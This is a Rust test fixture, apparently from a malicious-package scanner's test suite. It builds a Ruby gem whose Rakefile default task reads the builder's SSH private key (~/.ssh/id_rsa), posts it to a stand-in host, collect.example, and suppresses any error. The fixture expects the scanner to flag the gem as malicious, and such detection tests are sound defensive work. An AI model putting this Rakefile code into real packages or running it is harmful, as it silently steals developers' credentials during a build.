//! A gem that is built by a Rakefile, whose default task sends an SSH key.
//!
//! Must be found: the bait leaves in the Rakefile.

use crate::build::Package as _;
use crate::{Expect, Gem, Specimen};

const RAKEFILE: &str = r"task :default do
  require 'net/http'
  begin
    Net::HTTP.post(URI('https://collect.example/rake'), File.read(File.expand_path('~/.ssh/id_rsa')))
  rescue StandardError
    nil
  end
end
";

pub(super) fn specimen() -> Specimen {
    let package = Gem::new("rake_built", "1.1.0")
        .extension("Rakefile", RAKEFILE)
        .file("lib/rake_built.rb", "module RakeBuilt\nend\n");
    package
        .specimen("gem-rakefile", Expect::malicious(&["canary-exfiltrated"]))
        .telling("in its Rakefile")
}
